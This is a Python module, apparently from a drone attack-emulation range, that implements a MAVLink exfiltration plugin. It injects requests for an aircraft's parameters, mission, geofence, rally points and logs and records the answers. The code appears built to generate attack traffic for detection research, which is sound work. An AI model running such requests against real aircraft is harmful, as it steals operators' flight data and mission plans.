"""Exfiltration: parameters, mission, fence, rally points and logs are requested from the aircraft and read."""

from __future__ import annotations

from typing import Annotated, Final, Literal

from pydantic import BeforeValidator, Field

import skyrange.plugin as sky
from skyrange.attack.tapped_links import LEARNED
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.alerts import Scalar

Subject = Literal["parameters", "mission", "fence", "rally", "logs"]
_TYPES: Final = {
    "mission": mav.MAV_MISSION_TYPE_MISSION, "fence": mav.MAV_MISSION_TYPE_FENCE, "rally": mav.MAV_MISSION_TYPE_RALLY
}  # fmt: skip
_SUBJECTS: Final = {number: name for name, number in _TYPES.items()}
_ANSWER_NS: Final = sky.NS_PER_MS


@sky.attack(
    "mavlink.exfiltrate",
    technique="T0802",
    counterfactual="mute",
    persists="acts",
    effect="the attacker learns parameters and mission, and the answers load the link",
    position="by place: near the link with a radio, in the operator's network, or on board, where answers can be heard",
    budget="one frame for a list of parameters or logs, one for each item of a mission",
    load="none, because the answers are the load; the sham has frames of the same lengths that nobody answers",
    content="none, because requests have no content",
    placement="the same requests to another aircraft",
)
class Exfiltration(sky.Injection):
    """Requests parameters, mission and logs of the aircraft and reads the answers."""

    reads = ("PARAM_VALUE", "MISSION_COUNT", "MISSION_ITEM_INT", "LOG_ENTRY")

    what: Annotated[
        tuple[Subject, ...], BeforeValidator(sky.items, json_schema_input_type=list[str]), Field(min_length=1)
    ] = sky.param(
        "What to request, in order, of parameters, mission, fence, rally and logs.",
        default=("parameters", "mission", "logs"),
    )
    every_s: sky.Number = sky.param("Time between two rounds, in seconds.", default=10.0, ge=1, le=3600)
    learnt: dict[str, dict[str, tuple[float, ...]]] = sky.state(dict)
    """By subject: values by parameter; command and place of items by number; size of logs by number."""
    news: list[dict[str, Scalar]] = sky.state(list)
    """What was learnt from the frame that is being read."""
    queue: list[sky.MavlinkMessage] = sky.state(list)
    """Requests of items that are to be sent."""
    counts: dict[int, int] = sky.state(dict)
    """Number of items by type of mission."""
    asked: dict[int, int] = sky.state(dict)
    """The item that was requested last, by type of mission."""
    answer_ns: sky.Time | None = None

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        """Keep what is told; notes what is new."""
        super().on_frame(now, frame)
        if not self.news:
            return ()
        learned, self.news = self.news, []
        return [sky.Note(LEARNED, frame.link.partition(":")[2], data, (frame.id,)) for data in learned]

    def on_message(self, now: sky.Time, message: sky.MavlinkMessage) -> None:
        """Keep what an answer tells, and request the next item."""
        name = type(message).msgname
        if now < self.schedule.start_ns:
            return
        if name == "PARAM_VALUE":
            self._learn("parameters", message.param_id, (message.param_value,))
        elif name == "LOG_ENTRY":
            self._learn("logs", str(message.id), (float(message.size),))
        elif message.mission_type in _SUBJECTS and self.claimed.is_answered(message):
            subject, kind = _SUBJECTS[message.mission_type], message.mission_type
            if name == "MISSION_COUNT":
                self.counts[kind] = message.count
                self._request(now, kind, 0)
            else:
                place = (float(message.command), message.x * 1e-7, message.y * 1e-7, message.z)
                self._learn(subject, str(message.seq), place)
                if message.seq == self.asked.get(kind):
                    self._request(now, kind, message.seq + 1)

    def next_wakeup(self) -> sky.Time | None:
        times = [time for time in (self.clock.due, self.answer_ns) if time is not None]
        return min(times) if times else None

    def on_wakeup(self, now: sky.Time) -> sky.Verdicts:
        if self.answer_ns is not None and now >= self.answer_ns:
            self.answer_ns = None
        requests, self.queue = self.queue, []
        return [*(self.inject(self.pack(request)) for request in requests), *super().on_wakeup(now)]

    def orders(self, now: sky.Time) -> list[sky.MavlinkMessage]:
        return [self._first_request(subject) for subject in self.what]

    def _learn(self, subject: str, name: str, values: tuple[float, ...]) -> None:
        known = self.learnt.setdefault(subject, {})
        if known.get(name) != values:
            known[name] = values
            self.news.append({"what": subject, "name": name, "value": ", ".join(f"{value:g}" for value in values)})

    def _request(self, now: sky.Time, kind: int, seq: int) -> None:
        if seq < self.counts.get(kind, 0) and _SUBJECTS[kind] in self.what:
            self.asked[kind] = seq
            self.queue.append(mav.MAVLink_mission_request_int_message(self.target, sky.AUTOPILOT, seq, kind))
            self.answer_ns = now + _ANSWER_NS

    def _first_request(self, subject: Subject) -> sky.MavlinkMessage:
        if subject == "parameters":
            return mav.MAVLink_param_request_list_message(self.target, sky.AUTOPILOT)
        if subject == "logs":
            return mav.MAVLink_log_request_list_message(self.target, sky.AUTOPILOT, 0, 0xFFFF)
        return mav.MAVLink_mission_request_list_message(self.target, sky.AUTOPILOT, _TYPES[subject])
